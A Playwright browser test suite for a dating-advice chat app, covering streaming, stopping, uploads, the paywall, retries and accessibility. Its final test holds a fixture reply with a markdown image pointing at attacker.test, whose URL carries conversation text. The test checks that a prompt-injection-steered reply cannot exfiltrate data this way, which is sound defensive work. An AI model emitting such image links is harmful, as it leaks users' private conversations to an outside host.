import type { BrowserContext, Page, Request } from 'playwright-core';
import sharp from 'sharp';
import { expectNoAxeViolations } from './support/axe';
import { chromiumAvailable } from './support/browser';
import { seededBannerId } from './support/frame-setup';
import { startFakeOpenAi, type FakeOpenAi } from './support/fake-openai';
import { buyMessagePack } from './support/message-pack';
import { emailMember, signInBrowser, type Member } from './support/members';
import {
  chooseNecessaryCookies,
  dismissBanner,
  openPage,
  useScheme,
  type ContextOptions,
} from './support/pages';
import { startProduct, startProductWithFreeMessages } from './support/product';
import { setUpBrowserSuite } from './support/suite';
import { saveScreenshot, VIEWPORTS } from './support/screenshots';

const describeInBrowser = chromiumAvailable() ? describe : describe.skip;

/** Few free messages, so the paywall comes quickly; the per-address cap high enough for every test here. */
const FREE_MESSAGES = 3;

/** A photo with some detail (a gradient with noise), big enough for the upload progress to show when throttled. */
async function testPhoto(): Promise<Buffer> {
  const width = 1200;
  const height = 900;
  const pixels = Buffer.alloc(width * height * 3);
  for (let index = 0; index < pixels.length; index++)
    pixels[index] = (index * 7 + ((index * 2654435761) >>> 24)) & 255;
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 95 })
    .toBuffer();
}

/**
 * `abtest_verification` pinned to `after_free` (free messages before sign-up) on the device, as the A/B engine keeps
 * it: another variant would gate the first send behind sign-up or verification.
 */
async function pinFreeMessagesFirst(context: BrowserContext, webUrl: string): Promise<void> {
  await context.addCookies([
    {
      name: 'abtests',
      value: encodeURIComponent(JSON.stringify({ abtest_verification: 'after_free' })),
      url: webUrl,
    },
  ]);
}

/** The messages left, as the header's counter shows them. */
const messagesLeft = (page: Page) =>
  page
    .getByText(/^(\d+) messages? left$/)
    .first()
    .textContent()
    .then((text) => Number(text?.split(' ')[0]));

/** Sends with the keyboard only: focus the box, type, Enter. */
async function sendByKeyboard(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).focus();
  await page.keyboard.type(text);
  await page.keyboard.press('Enter');
}

/** Tracks the scripts the page asks for from now on; `settled()` resolves once every one of them is in. */
function scriptsInFlight(page: Page): { settled(): Promise<void> } {
  const pending = new Set<Request>();
  let wake = () => undefined as void;
  page.on('request', (request) => {
    if (request.resourceType() === 'script') pending.add(request);
  });
  const finished = (request: Request) => {
    pending.delete(request);
    if (pending.size === 0) wake();
  };
  page.on('requestfinished', finished);
  page.on('requestfailed', finished);
  return {
    settled: () =>
      pending.size === 0 ? Promise.resolve() : new Promise<void>((resolve) => (wake = resolve)),
  };
}

describeInBrowser('/chat in Chromium against the real API and the offline AI', () => {
  const suite = setUpBrowserSuite(() => startProductWithFreeMessages(FREE_MESSAGES));
  let bannerId: number;

  beforeAll(async () => {
    bannerId = await seededBannerId(suite.product);
  });

  /** A fresh visitor on /chat whose `abtest_verification` is `after_free` (free messages before sign-up). */
  async function openChat(
    options: ContextOptions = {},
  ): Promise<{ page: Page; context: BrowserContext; errors: string[] }> {
    const context = await suite.newContext(options);
    await pinFreeMessagesFirst(context, suite.product.webUrl);
    // The rebrand banner and the cookie choice are settled on this device (frame tests cover both).
    await dismissBanner(context, bannerId);
    await chooseNecessaryCookies(context);
    const { page, errors } = await openPage(context, `${suite.product.webUrl}/chat`, { heading: 'Chat' });
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    return { page, context, errors };
  }

  const replies = (page: Page) => page.getByRole('region', { name: 'Conversation' }).getByRole('listitem');

  it('streams a reply to a message sent by keyboard, and Stop keeps the reply (after a reload too)', async () => {
    const { page, context, errors } = await openChat();
    await page.getByRole('list', { name: 'Quick starts' }).waitFor();
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    const before = await messagesLeft(page);
    // Focusing the box fetches the code that formats replies (Markdown's); it arrives before the connection is
    // slowed, as it does while a person types, so only the reply shares the slowed connection.
    const scripts = scriptsInFlight(page);
    const formatter = page.waitForResponse((response) =>
      /\/assets\/Markdown-[\w-]+\.js$/.test(response.url()),
    );
    await page.getByRole('textbox', { name: 'Message' }).focus();
    await formatter;
    await scripts.settled();

    // Slow the download so Stop can be pressed mid-reply. Chromium lets a throttled response through in packets
    // of 1500 bytes: the headers and the first words come in the first two (about 12 s at 240 bytes a second),
    // the end of the reply a packet later, which leaves 6 s to press Stop on however busy a machine.
    const cdp = await context.newCDPSession(page);
    await cdp.send('Network.enable');
    await cdp.send('Network.emulateNetworkConditions', {
      offline: false,
      latency: 0,
      downloadThroughput: 240,
      uploadThroughput: -1,
    });
    await sendByKeyboard(page, 'Help me write an opener, she loves climbing');
    const stop = page.getByRole('button', { name: 'Stop' });
    await stop.waitFor();
    const reply = replies(page).nth(1);
    // The first words of the reply are on screen (not only "Thinking…").
    await page.waitForFunction(() => {
      const items = document.querySelectorAll('[aria-label="Conversation"] li');
      const text = (items[1]?.textContent ?? '').replace('Wingmate said:', '').replace('Thinking…', '');
      return text.trim().length > 0;
    });
    await stop.click();
    await page.getByText('Stopped. The reply is kept as far as it came.').waitFor();
    const partial = (await reply.textContent()) ?? '';
    await cdp.send('Network.emulateNetworkConditions', {
      offline: false,
      latency: 0,
      downloadThroughput: -1,
      uploadThroughput: -1,
    });
    expect(partial.length).toBeGreaterThan('Wingmate said:'.length);

    await page.reload();
    await page.getByText('Help me write an opener, she loves climbing').waitFor();
    expect(await replies(page).count()).toBe(2);
    // The server keeps (and charges) the reply once its first token left: one message, not zero, not two.
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    expect(await messagesLeft(page)).toBe(before - 1);
    expect(errors).toEqual([]);
  });

  it('attaches a photo with upload progress, and shows its reply whole', async () => {
    const { page, context } = await openChat();
    const cdp = await context.newCDPSession(page);
    await cdp.send('Network.enable');
    await cdp.send('Network.emulateNetworkConditions', {
      offline: false,
      latency: 0,
      downloadThroughput: -1,
      uploadThroughput: 100 * 1024,
    });
    await page.locator('input[type="file"]').setInputFiles({
      name: 'me.jpg',
      mimeType: 'image/jpeg',
      buffer: await testPhoto(),
    });
    await page.getByText('me.jpg').waitFor();
    await page.getByText('1200×900').waitFor();
    await sendByKeyboard(page, 'Is this a good first photo?');
    await page.getByRole('button', { name: 'Cancel upload' }).waitFor();
    await page.waitForFunction(() => {
      const progress = document.querySelector<HTMLProgressElement>('progress[aria-label="Upload progress"]');
      return progress !== null && progress.value > 0 && progress.value < 1;
    });
    await saveScreenshot(page, 'chat-photo-uploading-desktop');
    // The progress is seen: the rest of the photo may go at full speed (Chromium applies new conditions to the
    // upload under way), instead of the several seconds the slowed connection takes.
    await cdp.send('Network.emulateNetworkConditions', {
      offline: false,
      latency: 0,
      downloadThroughput: -1,
      uploadThroughput: -1,
    });
    const answer = page.getByText(/I had a look at your photo/);
    await answer.waitFor({ timeout: 60_000 });
    expect(await page.getByRole('img', { name: 'Your photo' }).getAttribute('src')).toMatch(
      /\/uploads\/chat\//,
    );
  });

  it('opens the paywall after the free messages, keeping the unsent text', async () => {
    const { page } = await openChat();
    for (let n = 1; n <= FREE_MESSAGES; n++) {
      await sendByKeyboard(page, `Message number ${n}`);
      await page.getByRole('button', { name: 'Send' }).waitFor();
      await replies(page)
        .nth(n * 2 - 1)
        .getByRole('button', { name: 'Copy', exact: true })
        .waitFor();
    }
    await page.waitForFunction(() => /0 messages left/.test(document.body.textContent ?? ''));
    await sendByKeyboard(page, 'One more, please');
    const dialog = page.getByRole('dialog', { name: "You've used your free messages" });
    await dialog.waitFor();
    expect(await dialog.getByRole('link', { name: 'Sign up' }).getAttribute('href')).toBe(
      '/signup?next=%2Fchat',
    );
    await saveScreenshot(page, 'chat-paywall-desktop');
    await page.keyboard.press('Escape');
    expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('One more, please');
  });

  it('retries a message sent while offline with the same key, charging it once', async () => {
    const { page, context } = await openChat();
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    const before = await messagesLeft(page);
    await context.setOffline(true);
    await sendByKeyboard(page, 'Are you still there?');
    const alert = page.getByRole('alert').filter({ hasText: 'Your message is kept' });
    await alert.waitFor({ timeout: 30_000 });
    await context.setOffline(false);
    await alert.getByRole('button', { name: 'Retry' }).click();
    await replies(page).nth(1).getByRole('button', { name: 'Copy', exact: true }).waitFor();
    await saveScreenshot(page, 'chat-retried-desktop');
    await page.reload();
    const sentText = page.getByText('Are you still there?', { exact: true });
    await sentText.waitFor();
    expect(await sentText.count()).toBe(1);
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    expect(await messagesLeft(page)).toBe(before - 1);
  });

  it('deletes the history after a confirmation', async () => {
    const { page } = await openChat();
    await sendByKeyboard(page, 'Something to forget');
    await replies(page).nth(1).getByRole('button', { name: 'Copy', exact: true }).waitFor();
    await page.getByRole('button', { name: 'Chat menu' }).click();
    await page.getByRole('menuitem', { name: 'Delete chat history' }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete chat history?' });
    await dialog.getByRole('button', { name: 'Delete' }).click();
    await page.getByRole('list', { name: 'Quick starts' }).waitFor();
    await page.reload();
    await page.getByRole('list', { name: 'Quick starts' }).waitFor();
    expect(await page.getByText('Something to forget').count()).toBe(0);
  });

  it.each(['light', 'dark'] as const)(
    'has no axe violations (%s), empty and with a reply',
    async (scheme) => {
      for (const [label, viewport] of Object.entries(VIEWPORTS)) {
        const { page } = await openChat({ colorScheme: scheme, viewport });
        await page.getByRole('list', { name: 'Quick starts' }).waitFor();
        await expectNoAxeViolations(page, `/chat empty ${label} (${scheme})`);
        await saveScreenshot(page, `chat-empty-${label}-${scheme}`);
        await page.getByRole('combobox', { name: 'Help with' }).selectOption('opener');
        await page.getByRole('combobox', { name: 'Tone' }).selectOption('witty');
        await sendByKeyboard(page, 'My match loves jazz and bad puns');
        await replies(page).nth(1).getByRole('button', { name: 'Copy', exact: true }).waitFor();
        await page.getByText('Three witty openers to try:').waitFor();
        await expectNoAxeViolations(page, `/chat with a reply ${label} (${scheme})`);
        await saveScreenshot(page, `chat-reply-${label}-${scheme}`);
      }
    },
  );
});

/** The slow upstream's reply: 30 tokens, one every 150 ms (4.5 s), long enough to watch it grow and to stop it. */
const SLOW_REPLY_TOKENS = (
  'Try this opener: you clearly know your way around a climbing wall, so which route would you pick ' +
  'for a first date that is easy on beginners and still a bit of an adventure?'
)
  .split(/(?<= )/)
  .slice(0, 30);
const TOKEN_INTERVAL_MS = 150;

describeInBrowser('/chat against a slow OpenAI-compatible upstream', () => {
  let upstream: FakeOpenAi;
  const suite = setUpBrowserSuite(async () => {
    upstream = await startFakeOpenAi({ tokens: SLOW_REPLY_TOKENS, tokenIntervalMs: TOKEN_INTERVAL_MS });
    const product = await startProduct(
      {},
      {
        // The API's real OpenAI adapter, pointed at the fake by configuration (LLM_BASE_URL / LLM_API_KEY).
        llm: {
          baseUrl: upstream.baseUrl,
          apiKey: 'sk-fake',
          model: 'fake-slow-model',
          visionModel: 'fake-slow-model',
          timeoutMs: 30_000,
        },
        metering: { freeMessages: 10, freeMessagesPerIp: 500, subscriptionDailyCap: 500 },
      },
    );
    return {
      ...product,
      close: async () => {
        await product.close();
        await upstream.close();
      },
    };
  });
  let bannerId: number;

  beforeAll(async () => {
    bannerId = await seededBannerId(suite.product);
  });

  afterEach(() => {
    upstream.recover();
    upstream.replyWith();
  });

  async function openChat(
    options: ContextOptions & { member?: Member } = {},
  ): Promise<{ page: Page; context: BrowserContext; errors: string[] }> {
    const context = await suite.newContext(options);
    await pinFreeMessagesFirst(context, suite.product.webUrl);
    if (options.member) await signInBrowser(context, suite.product.webUrl, options.member);
    await dismissBanner(context, bannerId);
    await chooseNecessaryCookies(context);
    const { page, errors } = await openPage(context, `${suite.product.webUrl}/chat`, { heading: 'Chat' });
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    // The count comes from the account, the conversation from the history: on a busy machine the composer and
    // its count can be drawn while the history is still loading, so the conversation is waited for too.
    await page.getByRole('region', { name: 'Conversation' }).waitFor();
    return { page, context, errors };
  }

  const conversation = (page: Page) => page.getByRole('region', { name: 'Conversation' });

  /**
   * Installs a MutationObserver on the conversation that records, each time the newest reply's text changes,
   * its length and whether the reply was still streaming (its row `aria-busy`) at that moment.
   */
  async function watchReplyText(page: Page): Promise<void> {
    await page.evaluate(() => {
      const region = document.querySelector('[aria-label="Conversation"]');
      if (!region) throw new Error('No conversation region');
      const record: { length: number; streaming: boolean }[] = [];
      (window as unknown as { replyGrowth: typeof record }).replyGrowth = record;
      new MutationObserver(() => {
        const rows = region.querySelectorAll('li');
        const reply = rows[rows.length - 1];
        // The bubble's words only: not the "Wingmate said:" label nor the "Thinking…" placeholder.
        const bubble = reply?.querySelector(':scope > div');
        const text = bubble?.querySelector('span[role], svg') ? '' : (bubble?.textContent ?? '');
        if (text.length === (record.at(-1)?.length ?? 0)) return;
        record.push({ length: text.length, streaming: reply?.getAttribute('aria-busy') === 'true' });
      }).observe(region, { childList: true, subtree: true, characterData: true });
    });
  }

  const replyGrowth = (page: Page) =>
    page.evaluate(
      () => (window as unknown as { replyGrowth: { length: number; streaming: boolean }[] }).replyGrowth,
    );

  const replyBubble = (page: Page) =>
    conversation(page).getByRole('listitem').last().locator(':scope > div').first();

  it('streams the reply token by token: the page sees its text grow at least twice before it is done', async () => {
    const { page, errors } = await openChat();
    await watchReplyText(page);
    await sendByKeyboard(page, 'Help me write an opener, she loves climbing');
    await conversation(page)
      .getByRole('listitem')
      .last()
      .getByRole('button', { name: 'Copy', exact: true })
      .waitFor();

    expect((await replyBubble(page).textContent())?.trim()).toBe(upstream.reply.trim());
    const whileStreaming = (await replyGrowth(page)).filter((step) => step.streaming);
    expect(whileStreaming.length).toBeGreaterThanOrEqual(2);
    expect(whileStreaming.every((step, n) => n === 0 || step.length > whileStreaming[n - 1]!.length)).toBe(
      true,
    );
    expect(errors).toEqual([]);
  });

  it('stops mid-reply by keyboard, keeping the partial reply, which the history shows after a reload', async () => {
    const { page, errors } = await openChat({ viewport: VIEWPORTS.phone });
    const before = await messagesLeft(page);
    await watchReplyText(page);
    await sendByKeyboard(page, 'What do I answer to "you look like trouble"?');
    // A few tokens on screen, then Tab from the message box reaches Stop (Attach is off while replying).
    await page.waitForFunction(
      () =>
        ((window as unknown as { replyGrowth: { streaming: boolean }[] }).replyGrowth ?? []).filter(
          (step) => step.streaming,
        ).length >= 3,
    );
    await page.keyboard.press('Tab');
    const stop = page.getByRole('button', { name: 'Stop' });
    expect(await stop.evaluate((button) => button === document.activeElement)).toBe(true);
    await page.keyboard.press('Enter');
    await page.getByText('Stopped. The reply is kept as far as it came.').waitFor();
    // The keyboard user keeps their place: the focus is back in the message box, not lost with Stop.
    expect(
      await page.getByRole('textbox', { name: 'Message' }).evaluate((box) => box === document.activeElement),
    ).toBe(true);
    const partial = ((await replyBubble(page).textContent()) ?? '').trim();
    expect(partial.length).toBeGreaterThan(0);
    expect(upstream.reply.startsWith(partial)).toBe(true);
    expect(partial.length).toBeLessThan(upstream.reply.trim().length);
    // Stopping the reply stops the AI too: the API closes its upstream stream instead of reading it to the end.
    await upstream.abandoned(1);

    await expectNoAxeViolations(page, '/chat stopped reply phone (light)');
    await saveScreenshot(page, 'chat-stopped-phone-light');
    await useScheme(page, 'dark');
    await expectNoAxeViolations(page, '/chat stopped reply phone (dark)');
    await saveScreenshot(page, 'chat-stopped-phone-dark');
    await page.setViewportSize(VIEWPORTS.desktop);
    await saveScreenshot(page, 'chat-stopped-desktop-dark');

    await page.reload();
    await page.getByText('What do I answer to "you look like trouble"?').waitFor();
    const kept = ((await replyBubble(page).textContent()) ?? '').trim();
    // The server keeps what it had sent when the browser left: at least what was on screen, never the whole.
    expect(kept.startsWith(partial)).toBe(true);
    expect(kept.length).toBeLessThan(upstream.reply.trim().length);
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    expect(await messagesLeft(page)).toBe(before - 1);
    expect(errors).toEqual([]);
  });

  it('shows Retry when the upstream answers 503, and the retry (same Idempotency-Key) is charged once', async () => {
    const member = await emailMember(suite.product);
    await buyMessagePack(suite.product, member.access);
    const { page, errors } = await openChat({ member });
    const before = await messagesLeft(page);
    const keys: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/api/v1/chat/stream/') && request.method() === 'POST')
        keys.push(request.headers()['idempotency-key'] ?? '');
    });

    // The outage lasts through the API's own retries of the upstream call, so the send itself fails.
    upstream.startOutage(503);
    const streamsBefore = upstream.calls().streamed;
    await sendByKeyboard(page, 'Is "hey" a good opener?');
    const alert = page.getByRole('alert').filter({ has: page.getByRole('button', { name: 'Retry' }) });
    await alert.waitFor({ timeout: 30_000 });
    expect(upstream.calls().failed).toBeGreaterThanOrEqual(1);
    // Nothing was charged for the failed send.
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    expect(await messagesLeft(page)).toBe(before);

    await expectNoAxeViolations(page, '/chat send failed desktop (light)');
    await saveScreenshot(page, 'chat-upstream-failed-desktop-light');
    await useScheme(page, 'dark');
    await expectNoAxeViolations(page, '/chat send failed desktop (dark)');
    await page.setViewportSize(VIEWPORTS.phone);
    await saveScreenshot(page, 'chat-upstream-failed-phone-dark');

    upstream.recover();
    const retry = alert.getByRole('button', { name: 'Retry' });
    await retry.focus();
    await page.keyboard.press('Enter');
    await conversation(page)
      .getByRole('listitem')
      .last()
      .getByRole('button', { name: 'Copy', exact: true })
      .waitFor();
    expect(upstream.calls().streamed - streamsBefore).toBe(1);
    expect(keys).toHaveLength(2);
    expect(keys[1]).toBe(keys[0]);
    expect(keys[0]).not.toBe('');

    await page.reload();
    await page.getByText('Is "hey" a good opener?', { exact: true }).waitFor();
    expect(await page.getByText('Is "hey" a good opener?', { exact: true }).count()).toBe(1);
    await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
    expect(await messagesLeft(page)).toBe(before - 1);
    expect(errors).toEqual([]);
  });

  // docs/decisions.md#the-browsers-defences: AI text renders no remote images, so a reply steered by a prompt
  // injection cannot make the browser carry the conversation to another host.
  it("shows a reply's remote image as its alt text and never asks the image's host, live or from the history", async () => {
    upstream.replyWith([
      'Here is **your** opener. ',
      '![profile summary](http://attacker.test/x?d=she%20loves%20climbing) ',
      'Good luck!',
    ]);
    const { page, context, errors } = await openChat();
    const attackerRequests: string[] = [];
    await context.route('http://attacker.test/**', (route) => {
      attackerRequests.push(route.request().url());
      return route.abort();
    });
    page.on('request', (request) => {
      if (request.url().includes('attacker.test')) attackerRequests.push(request.url());
    });
    const reply = conversation(page).getByRole('listitem').last();

    /** The reply drawn as markdown (its bold word), the image as its words only. */
    const expectImageAsAltText = async () => {
      await reply.locator('strong', { hasText: 'your' }).waitFor();
      expect(await reply.textContent()).toContain('profile summary Good luck!');
      expect(await reply.locator('img').count()).toBe(0);
    };
    await sendByKeyboard(page, 'Write me an opener from my profile');
    await reply.getByRole('button', { name: 'Copy', exact: true }).waitFor();
    await expectImageAsAltText();

    await page.reload();
    await conversation(page).getByText('Write me an opener from my profile', { exact: true }).waitFor();
    await expectImageAsAltText();
    await page.waitForLoadState('networkidle');
    expect(attackerRequests).toEqual([]);
    expect(errors).toEqual([]);
  });
});
